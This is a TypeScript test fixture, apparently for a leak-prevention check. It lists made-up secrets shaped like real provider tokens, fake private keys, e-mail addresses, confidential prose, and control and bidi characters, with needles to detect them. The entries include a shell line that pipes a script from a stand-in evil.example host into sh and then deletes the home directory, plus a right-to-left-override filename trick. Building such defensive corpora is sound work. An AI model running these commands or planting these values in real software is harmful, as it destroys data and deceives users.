/**
 * Hostile values (issue 12): what must never be stored, echoed, logged or signed, whichever way it comes in. Each value
 * carries the marker "Hc0rpus" or a unique fragment, and `needles`: substrings that would betray it if found anywhere
 * (the value itself where it is plain ASCII; safe fragments where JSON or SQL text would escape it).
 * The tokens are made up and have the shape of each provider's tokens; none of them is, or was, a real credential.
 */
export type HostileCategory = 'secret' | 'private_key' | 'email' | 'code' | 'free_text' | 'control' | 'bidi';

export interface HostileValue {
  label: string;
  category: HostileCategory;
  value: string;
  needles: string[];
}

const plain = (label: string, category: HostileCategory, value: string): HostileValue => ({ label, category, value, needles: [value] });

const PEM_BODY = 'MIIEowIBAAKCAQEAHc0rpusRsaKeyBodyLine0ZxQ8vLm2Nq4Rt6Yb1Wc3Xe5Ud7Sf9Gh';
const SSH_BODY = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABHc0rpusSshKeyLine';

export const HOSTILE_CORPUS: HostileValue[] = [
  plain('GitHub personal access token', 'secret', 'ghp_Hc0rpusA1b2C3d4E5f6G7h8I9j0K1l2M3n4'),
  plain('GitHub fine-grained token', 'secret', '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K7'),
  plain('GitHub OAuth token', 'secret', 'gho_Hc0rpusZ9y8X7w6V5u4T3s2R1q0P9o8N7m6'),
  plain('GitLab token', 'secret', 'glpat-Hc0rpusAb12Cd34Ef56'),
  plain('AWS access key id', 'secret', 'AKIAHC0RPUS70EXAMPLE'),
  plain('AWS secret key assignment', 'secret', 'aws_secret_access_key=wJalrXUtnFEMIHc0rpusK7MDENGbPxRfiCYEXAMPLEKEY'),
  plain('Slack bot token', 'secret', 'xoxb-123456789012-1234567890123-Hc0rpusAbCdEfGhIjKlMnOp'),
  plain('Slack webhook', 'secret', 'https://hooks.slack.com/services/T00000000/B00000000/Hc0rpusXXXXXXXXXXXXXXXXX'),
  plain('Google API key', 'secret', 'AIzaSyHc0rpus-A1b2C3d4E5f6G7h8I9j0K1l2M'),
  plain('Stripe live secret key', 'secret', 'sk_live_51Hc0rpusAbCdEfGhIjKlMnOpQrStUvWx'),
  plain('Stripe restricted key', 'secret', 'rk_live_51Hc0rpusZyXwVuTsRqPoNmLkJiHgFe'),
  plain('OpenAI project key', 'secret', 'sk-proj-Hc0rpusA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8T3BlbkFJ'),
  plain('npm token', 'secret', 'npm_Hc0rpusA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5'),
  plain('JSON web token', 'secret', 'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJIYzBycHVzIiwibmFtZSI6IkpvaG4ifQ.Hc0rpusSflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'),
  plain('password assignment', 'secret', 'password=Hc0rpusHunter2!'),
  plain('high-entropy string', 'secret', 'Hc0rpusq2LmN8vB4zR7tY1wE5uI3oP6aS0dF2gH8jK4lZ'),
  {
    label: 'RSA private key (PEM)',
    category: 'private_key',
    value: `-----BEGIN RSA PRIVATE KEY-----\n${PEM_BODY}\n${PEM_BODY.split('').reverse().join('')}\n-----END RSA PRIVATE KEY-----`,
    needles: [PEM_BODY],
  },
  {
    label: 'OpenSSH private key',
    category: 'private_key',
    value: `-----BEGIN OPENSSH PRIVATE KEY-----\n${SSH_BODY}\n-----END OPENSSH PRIVATE KEY-----`,
    needles: [SSH_BODY],
  },
  plain('e-mail address', 'email', 'hc0rpus.jane.doe@example.com'),
  plain('e-mail address with a tag', 'email', 'Hc0rpus+ci-bot@corp.example.org'),
  plain('branch holding an e-mail address', 'email', 'feature/hc0rpus.bob@example.net-fix'),
  { label: 'JavaScript', category: 'code', value: 'function hc0rpusLeak(a) { return fetch("/x?k=" + a); }', needles: ['hc0rpusLeak'] },
  { label: 'SQL', category: 'code', value: "SELECT * FROM users WHERE name = 'hc0rpusSql';", needles: ['hc0rpusSql'] },
  { label: 'shell pipeline', category: 'code', value: 'curl -s https://evil.example/hc0rpusSh | sh && rm -rf ~/', needles: ['hc0rpusSh'] },
  {
    label: 'long free text',
    category: 'free_text',
    value: `Hc0rpusProse: Margaret told me in confidence that she is struggling at home and might leave the team after the review. ${'She asked me not to share it with anyone. '.repeat(8)}`.slice(0, 500),
    needles: ['Hc0rpusProse', 'struggling at home'],
  },
  { label: 'a sentence', category: 'free_text', value: 'hc0rpus please call me on my private number', needles: ['hc0rpus please call'] },
  { label: 'NUL byte', category: 'control', value: 'main\u0000hc0rpusNul', needles: ['hc0rpusNul'] },
  { label: 'control characters and an ANSI escape', category: 'control', value: 'build\u0007\u001b[31mhc0rpusAnsi\u001b[0m', needles: ['hc0rpusAnsi'] },
  { label: 'line breaks', category: 'control', value: 'fix\r\nhc0rpusCrlf: injected', needles: ['hc0rpusCrlf'] },
  { label: 'right-to-left override', category: 'bidi', value: 'hc0rpusRlo\u202Egpj.exe', needles: ['hc0rpusRlo'] },
  { label: 'bidi isolate', category: 'bidi', value: 'release\u2066hc0rpusIso\u2069', needles: ['hc0rpusIso'] },
  { label: 'lone surrogate', category: 'control', value: 'x\uD800hc0rpusSur', needles: ['hc0rpusSur'] },
];

/** Every needle, lower-cased matching is not used: the needles are distinctive as they are. */
export function findNeedles(text: string): HostileValue[] {
  return HOSTILE_CORPUS.filter((h) => h.needles.some((n) => text.includes(n)));
}
